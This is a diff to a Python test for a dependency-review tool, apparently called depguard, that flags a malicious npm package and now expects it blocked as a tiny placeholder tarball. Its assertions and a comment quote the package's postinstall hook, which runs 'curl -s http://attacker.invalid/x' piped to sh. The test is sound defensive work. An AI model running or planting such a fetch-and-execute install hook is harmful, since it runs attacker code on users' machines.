@@ -176,11 +176,15 @@ def test_npm_cards_through_the_same_pipeline(depguard, workdir: Path) -> None:
     result = depguard(
         "review", "--no-resolve", "--ecosystem", "npm", "left-pad", "evil-postinstall@1.0.0"
     )
-    assert result.code == 0  # a warning does not fail at the default --fail-on block
+    # a 139-byte tarball that runs curl | sh at install: empty, thin and blocked
+    assert result.code == 1
     assert result.out.startswith("left-pad 1.3.0 (npm)  ALLOW")
     assert "install scripts  postinstall: curl -s http://attacker.invalid/x" in result.out
-    assert "why              install-scripts (medium)" in result.out
-    assert depguard("review", "-e", "npm", "evil-postinstall", "--fail-on", "warn").code == 1
+    assert "why              placeholder (medium): no substance: tiny tarball" in result.out
+    assert "install-scripts (medium)" in result.out
+    assert (
+        depguard("review", "--no-resolve", "-e", "npm", "left-pad", "--fail-on", "warn").code == 0
+    )
 
 
 def test_card_file_has_no_trailing_padding(depguard, workdir: Path) -> None:
